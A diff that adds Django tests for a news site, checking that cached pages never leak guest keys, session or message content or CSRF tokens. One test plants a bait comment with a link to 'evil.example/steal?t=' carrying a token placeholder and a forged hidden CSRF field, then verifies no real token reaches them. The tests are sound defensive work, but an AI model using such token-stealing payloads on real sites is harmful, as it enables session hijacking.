@@ -8,13 +8,15 @@ from django.contrib.auth import get_user_model
 from django.test import Client
 from django.utils.module_loading import import_string
 
-from tribune.newsroom.cache import HEADER
+from tribune.newsroom.cache import HEADER, csrf_placeholder
 from tribune.newsroom.services import article_cache_invalidate, article_save, image_save
 from tribune.newsroom.tests.factories import article_factory, image_factory
 
 pytestmark = pytest.mark.django_db
 
 TOKEN = re.compile(r'name="csrfmiddlewaretoken" value="([^"]+)"')
+# The hidden field itself: a comment's text may spell out its attributes, never the tag.
+TOKEN_FIELD = re.compile(r'<input type="hidden" name="csrfmiddlewaretoken" value="([^"]+)">')
 
 
 def comment_count(html):
@@ -143,6 +145,124 @@ class TestNothingPersonalIsShared:
         assert 'name="name"' not in mine.content.decode()
         anonymous = Client().get(demo.get_absolute_url())
         assert anonymous[HEADER] == "hit" and 'name="name"' in anonymous.content.decode()
+
+
+    def test_a_guest_key_header_cannot_poison_the_shared_page(self, demo):
+        """A cookieless request naming a guest's key must not put that guest's page in the cache:
+        their Delete links, their disabled vote buttons, their held comment's text."""
+        held, mine, key = _guest_comments_with_a_held_one(demo)
+        # The guest's key sent the way the API takes it, by a page request with no cookie.
+        Client().get(demo.get_absolute_url(), HTTP_X_GUEST_KEY=key)
+        for html in (Client().get(demo.get_absolute_url()).content.decode(),
+                     Client().get(demo.get_absolute_url()).content.decode()):
+            assert f"/discussion/comments/{mine.pk}/delete/" not in html
+            assert "disabled" not in html
+            assert "A held thought, for the moderator only" not in html
+            assert "This comment is waiting for a moderator." in html
+
+    @pytest.mark.parametrize("identity", ["guest_cookie", "guest_key", "authorization", "session_cookie",
+                                          "messages_cookie"])
+    def test_a_request_carrying_an_identity_is_neither_served_nor_stored(self, demo, identity):
+        held, mine, key = _guest_comments_with_a_held_one(demo)
+        Client().get(demo.get_absolute_url())  # an anonymous copy is in the cache
+        personal = _personal_client(identity, key)
+        response = personal.get(demo.get_absolute_url())
+        assert HEADER not in response
+        assert "private" in response["Cache-Control"]
+        html = response.content.decode()
+        if identity == "guest_cookie":
+            # Pages take the guest's key from the signed cookie: the guest sees their own links.
+            assert f"/discussion/comments/{mine.pk}/delete/" in html
+        if identity == "messages_cookie":
+            assert "Just for you" in html
+        personal = _personal_client(identity, key)
+        front = personal.get("/")
+        assert HEADER not in front and "private" in front["Cache-Control"]
+        for page in (demo.get_absolute_url(), "/"):
+            anonymous = Client().get(page)
+            assert f"/discussion/comments/{mine.pk}/delete/" not in anonymous.content.decode()
+            assert "Just for you" not in anonymous.content.decode()
+
+    def test_a_page_only_answers_to_the_guest_cookie_not_the_header(self, demo):
+        held, mine, key = _guest_comments_with_a_held_one(demo)
+        html = Client().get(demo.get_absolute_url(), HTTP_X_GUEST_KEY=key).content.decode()
+        assert f"/discussion/comments/{mine.pk}/delete/" not in html
+
+    def test_an_anonymous_list_may_be_kept_by_a_proxy_and_an_article_page_never(self, demo):
+        front = Client().get("/")
+        assert "private" not in front.get("Cache-Control", "") and "Cookie" in front["Vary"]
+        article = Client().get(demo.get_absolute_url())
+        # The article page sets the reader's own CSRF cookie: never for a shared proxy.
+        assert "private" in article["Cache-Control"] and "Cookie" in article["Vary"]
+
+    def test_a_comment_holding_the_token_placeholder_never_carries_a_readers_token(self, demo):
+        comment_post = import_string("tribune.discussion.services.comment_post")
+        Reader = import_string("tribune.discussion.identity.Reader")
+        thread = import_string("tribune.discussion.selectors.thread_for_article")(article=demo)
+        bait = []
+        for placeholder in ("__tribune_csrf_token__", csrf_placeholder()):
+            bait.append(f"[Claim your prize](https://evil.example/steal?t={placeholder}) "
+                        f"`{placeholder}` {placeholder} "
+                        f'<input type="hidden" name="csrfmiddlewaretoken" value="{placeholder}">')
+        comment_post(thread=thread, body="\n\n".join(bait), guest_name="Bait",
+                     reader=Reader(guest_key="b" * 43, address_hash="bait"))
+        Client().get(demo.get_absolute_url())  # stored
+        reader = Client()
+        response = reader.get(demo.get_absolute_url())
+        assert response[HEADER] == "hit"
+        html = response.content.decode()
+        tokens = TOKEN_FIELD.findall(html)
+        assert tokens and len(set(tokens)) == 1
+        token = tokens[0]
+        # The reader's token is in the hidden fields of the forms and nowhere else.
+        assert html.count(token) == len(tokens)
+        assert 'href="https://evil.example/steal?t=' in html
+        assert f"steal?t={token}" not in html
+        assert reader.cookies["csrftoken"].value
+
+
+def _guest_comments_with_a_held_one(article):
+    """Have one guest write a visible comment and a held one that someone answered."""
+    comment_post = import_string("tribune.discussion.services.comment_post")
+    Reader = import_string("tribune.discussion.identity.Reader")
+    Comment = apps.get_model("discussion", "Comment")
+    thread = import_string("tribune.discussion.selectors.thread_for_article")(article=article)
+    key = "g" * 43
+    guest = Reader(guest_key=key, address_hash="guest-address")
+    mine = comment_post(thread=thread, body="My visible remark", guest_name="Gus", reader=guest)
+    held = comment_post(thread=thread, body="A held thought, for the moderator only", guest_name="Gus",
+                        reader=guest)
+    comment_post(thread=thread, body="An answer to the held one", guest_name="Ann", parent=held,
+                 reader=Reader(guest_key="a" * 43, address_hash="other-address"))
+    Comment.objects.filter(pk=held.pk).update(status="pending")
+    article_cache_invalidate(article_id=article.pk)
+    return held, mine, key
+
+
+def _personal_client(kind, key):
+    """Return a test client that carries one kind of identity."""
+    from django.contrib.messages import constants
+    from django.contrib.messages.storage.base import Message
+    from django.contrib.messages.storage.cookie import CookieStorage
+    from django.http import HttpRequest, HttpResponse
+
+    if kind == "guest_key":
+        return Client(HTTP_X_GUEST_KEY=key)
+    if kind == "authorization":
+        return Client(HTTP_AUTHORIZATION="Bearer someone-s-token")
+    client = Client()
+    if kind == "session_cookie":
+        users = get_user_model().objects
+        client.force_login(users.filter(username="nadia").first()
+                           or users.create_user("nadia", password="long-enough-password-1"))
+    elif kind == "guest_cookie":
+        response = HttpResponse()
+        response.set_signed_cookie("tribune_guest", key, salt="tribune.discussion.guest")
+        client.cookies.update(response.cookies)
+    elif kind == "messages_cookie":
+        storage = CookieStorage(HttpRequest())
+        client.cookies[storage.cookie_name] = storage._encode([Message(constants.INFO, "Just for you")])
+    return client
 
 
 class TestListCache:
